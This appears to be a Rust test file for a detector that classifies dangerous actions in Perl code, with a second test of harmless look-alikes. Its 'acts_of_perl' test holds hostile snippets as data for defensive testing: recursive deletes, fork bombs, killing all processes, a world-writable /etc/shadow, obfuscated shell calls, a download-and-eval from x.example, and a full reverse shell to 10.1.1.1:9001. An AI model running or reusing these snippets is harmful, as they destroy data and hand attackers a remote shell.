//! Perl.

use super::{Language::Perl, check};

#[test]
fn acts_of_perl() {
    check(
        Perl,
        &[
            ("system('rm -rf out')", &["shell rm -rf out"]),
            ("system 'rm', '-rf', 'out'", &["run rm -rf out"]),
            ("system(\"rm -rf $d\")", &["shell rm -rf $unknown"]),
            ("my $d = 'out'; system(\"rm -rf $d\");", &["shell rm -rf out"]),
            ("exec qw(rm -rf out)", &["run rm -rf out"]),
            ("print `halt`", &["shell halt"]),
            ("my $x = qx{rm -rf out}; print $x", &["shell rm -rf out"]),
            ("use File::Path; rmtree('out')", &["same rm -r -f out"]),
            ("use File::Path qw(remove_tree); remove_tree('a', 'b')", &["same rm -r -f a b"]),
            ("File::Path::rmtree(['a', 'b'])", &["same rm -r -f a b"]),
            ("unlink 'a', 'b'", &["same rm a b"]),
            ("unlink glob('*.o')", &["same rm *.o"]),
            ("unlink <*.o>", &["same rm *.o"]),
            ("unlink for glob('*.o')", &["same rm *.o"]),
            ("for my $f (qw(a b)) { unlink $f }", &["same rm a", "same rm b"]),
            ("open(F, '>/etc/motd'); print F 'x'", &["write /etc/motd"]),
            ("open(my $f, '>>', '/etc/motd') or die; print $f 'x'", &["append /etc/motd"]),
            ("open(F, '| sh'); print F 'x'", &["shell  sh"]),
            ("open(F, 'ls |')", &["shell ls "]),
            ("open(F, '-|', 'git', 'push', '-f')", &["run git push -f"]),
            ("kill 9, -1", &["same kill -9 -1"]),
            ("kill 'KILL', -1", &["same kill -KILL -1"]),
            ("exec {'rm'} 'rm', '-rf', 'out'", &["run rm -rf out"]),
            ("open F, '<', 'a.txt' or die $!", &["read a.txt"]),
            ("fork while fork", &["bomb"]),
            ("while(1){fork}", &["bomb"]),
            ("fork while 1", &["bomb"]),
            ("eval 'system(q(halt))'", &["shell halt"]),
            ("eval { system('halt') }; print $@ if $@", &["shell halt"]),
            ("s/(.*)/system($1)/e", &["unknown"]),
            ("eval pack('H*', '73797374656d2827 68616c742729')", &["shell halt"]),
            ("system(join('', map { chr } (104, 97)))", &["unknown"]),
            ("use MIME::Base64; system(decode_base64('aGFsdA=='))", &["shell halt"]),
            ("chmod 0777, '/etc/shadow'", &["same chmod 777 /etc/shadow"]),
            ("rename 'a', 'b'", &["same mv a b"]),
            ("while (<>) { system $_ }", &["unknown"]),
            (
                "use LWP::Simple; eval get('https://x.example/a')",
                &["same curl https://x.example/a", "shell curl 'https://x.example/a' | perl", "unknown"],
            ),
            (
                "use Socket;$i='10.1.1.1';$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');};",
                &["shell /bin/sh -i", "reverse"],
            ),
        ],
    );
}

#[test]
fn harmless() {
    check(
        Perl,
        &[
            ("print \"rm -rf /\\n\"", &[]),
            ("print 'system(\"halt\")'", &[]),
            ("# system('halt')\nprint 1", &[]),
            ("while (<>) { s/rm -rf/trash/g; print }", &[]),
            ("print join(',', sort { $a <=> $b } (3, 1, 2)), \"\\n\"", &[]),
            ("my %h = (system => 1, unlink => 2); print $h{system}", &[]),
            ("print \"$ENV{HOME} $0 @ARGV\"", &[]),
            ("print scalar(localtime), $/ if /shutdown/", &[]),
            ("my $x = <<'EOT';\nsystem('halt');\nEOT\nprint $x", &[]),
            ("print q{rm -rf /}, qq{ok\\n}", &[]),
            ("use strict; use warnings; my @a = map { $_ * 2 } 1..10; print \"@a\"", &[]),
            ("print $1 if 'abc' =~ m{(b)}; $n = 4 / 2; print y/a/b/", &[]),
            ("tr/a-z/A-Z/; print", &[]),
            ("print 1;\n__END__\nsystem('halt')", &[]),
        ],
    );
}
